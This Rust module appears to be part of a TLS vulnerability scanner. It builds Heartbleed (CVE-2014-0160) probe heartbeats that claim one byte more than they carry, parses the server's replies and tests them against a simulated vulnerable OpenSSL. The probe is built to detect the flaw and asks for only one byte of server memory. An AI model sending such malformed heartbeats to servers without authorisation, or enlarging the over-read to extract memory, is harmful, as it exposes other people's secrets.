//! Heartbeats (RFC 6520) that claim one byte more than they carry (CVE-2014-0160).
//!
//! OpenSSL 1.0.1 to 1.0.1f sends back as many bytes as a heartbeat claims. Ours claims its
//! payload, its padding and one byte: no more than that byte of the server's memory is ever
//! asked for. A sound heartbeat follows, by whose answer it shows that the first was passed
//! over and not just late.

use super::record::handshake_message;
use crate::tls::{bytes::Cursor, flight::message};

const REQUEST: u8 = 1;
const RESPONSE: u8 = 2;
/// Bytes of padding, the least that is allowed.
const PADDING: usize = 16;
/// Bytes of payload. OpenSSL gathers what it sends in a handshake in a buffer of 4096 bytes
/// (BIO_f_buffer): a shorter answer would stay there, and be lost when the connection ends.
const PAYLOAD: usize = 4200;
/// What the payloads consist of.
const FALSE_MARK: u8 = 0xf1;
const SOUND_MARK: u8 = 0x50;

/// The content of a record with a heartbeat that claims one byte more than there is.
pub fn false_request() -> Vec<u8> {
    request(FALSE_MARK, PAYLOAD + PADDING + 1)
}

/// The content of a record with a heartbeat as it should be.
pub fn sound_request() -> Vec<u8> {
    request(SOUND_MARK, PAYLOAD)
}

fn request(mark: u8, claimed: usize) -> Vec<u8> {
    let [high, low] = u16::try_from(claimed).unwrap_or_default().to_be_bytes();
    let mut out = vec![REQUEST, high, low];
    out.resize(3 + PAYLOAD + PADDING, mark);
    out
}

/// What every server refuses while it waits for a key exchange: a Finished.
pub fn end_of_clear() -> Vec<u8> {
    handshake_message(message::FINISHED, &[0; 12])
}

/// The answer to one of the two.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Answer {
    /// The false one was answered with so many bytes that were not in it; 0 where only what
    /// was there came back.
    ToFalse {
        /// At most 1.
        beyond: u16,
    },
    /// The sound one was answered.
    ToSound,
    /// No answer of ours: another heartbeat.
    Other,
}

/// Reads the content of a heartbeat record.
pub fn read(content: &[u8]) -> Answer {
    let mut cursor = Cursor(content);
    let (Some(RESPONSE), Some(claimed)) = (cursor.u8(), cursor.u16()) else { return Answer::Other };
    let payload = cursor.take(usize::from(claimed)).unwrap_or(cursor.0);
    match payload.first() {
        Some(&FALSE_MARK) => {
            let beyond = payload.len().saturating_sub(PAYLOAD + PADDING);
            Answer::ToFalse { beyond: u16::try_from(beyond).unwrap_or(u16::MAX).min(1) }
        }
        Some(&SOUND_MARK) => Answer::ToSound,
        _ => Answer::Other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What OpenSSL 1.0.1 does: it trusts the length.
    fn vulnerable(request: &[u8], behind: u8) -> Vec<u8> {
        let claimed = usize::from(u16::from_be_bytes([request[1], request[2]]));
        let memory = [request, &[behind; 64]].concat();
        let mut out = vec![RESPONSE, request[1], request[2]];
        out.extend_from_slice(&memory[3..3 + claimed]);
        out.extend_from_slice(&[0xee; PADDING]);
        out
    }

    #[test]
    fn exactly_one_byte_beyond_the_record_is_asked_for() {
        let request = false_request();
        let claimed = usize::from(u16::from_be_bytes([request[1], request[2]]));
        assert_eq!(3 + claimed, request.len() + 1);
        assert_eq!(read(&vulnerable(&request, 0x77)), Answer::ToFalse { beyond: 1 });
    }

    #[test]
    fn a_sound_answer_is_told_from_one_that_is_cut_to_what_was_there() {
        let sound = sound_request();
        let mut answer = vec![RESPONSE, sound[1], sound[2]];
        answer.extend_from_slice(&sound[3..]);
        assert_eq!(read(&answer), Answer::ToSound);
        let cut = [&[RESPONSE, 0x10, 0x78][..], &[FALSE_MARK; 4216]].concat();
        assert_eq!(read(&cut), Answer::ToFalse { beyond: 0 });
        for other in
            [&[][..], &[RESPONSE], &[RESPONSE, 0, 0], &[REQUEST, 0, 1, FALSE_MARK], &[RESPONSE, 0, 1, 7]]
        {
            assert_eq!(read(other), Answer::Other);
        }
    }

    #[test]
    fn requests_fit_into_a_record_and_their_answers_overflow_the_buffer() {
        assert!(false_request().len() < 1 << 14);
        assert!(sound_request().len() > 4096);
    }
}
